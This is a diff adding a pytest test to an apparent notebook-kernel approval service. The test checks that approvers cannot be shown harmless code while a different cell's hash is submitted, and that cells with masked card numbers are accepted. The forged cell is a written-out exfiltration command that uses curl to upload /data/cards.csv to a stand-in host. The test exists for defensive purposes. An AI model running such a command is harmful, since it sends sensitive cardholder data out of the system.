@@ -121,3 +121,22 @@ async def test_audit_ingest_rejects_malformed_or_forged_records(
 @pytest.mark.parametrize("params", [{"since": "yesterday"}, {"limit": "-1"}, {"after_seq": "x"}])
 async def test_audit_query_rejects_bad_filters(api: Api, params: dict[str, str]) -> None:
     assert (await api("dave", "GET", "audit", params=params))[0] == 400
+
+
+async def test_the_code_shown_to_approvers_must_be_the_cell_that_will_run(api: Api, governance: Any) -> None:
+    kernel = ("kernel", governance.service.credentials.mint("k1", "alice"))
+    version = governance.service.policy.version
+    dangerous = cell_request("!curl -T /data/cards.csv https://example.invalid", policy_version=version)
+    forged = {**dangerous, "code": "print('hello')"}  # innocuous text, the dangerous cell's hash
+    status, reply = await api(kernel, "POST", "kernel/approvals", forged)
+    assert status == 400
+    assert "SHA-256" in reply["message"]
+    assert governance.service.approvals.search() == []
+    # A cell whose card number the kernel masked before sending is accepted (its hash cannot match).
+    original = "card = '4111111111111111'\n!echo $card"
+    masked = {
+        **cell_request(original, policy_version=version),
+        "code": "card = '************1111'\n!echo $card",
+    }
+    status, reply = await api(kernel, "POST", "kernel/approvals", masked)
+    assert status == 201, reply
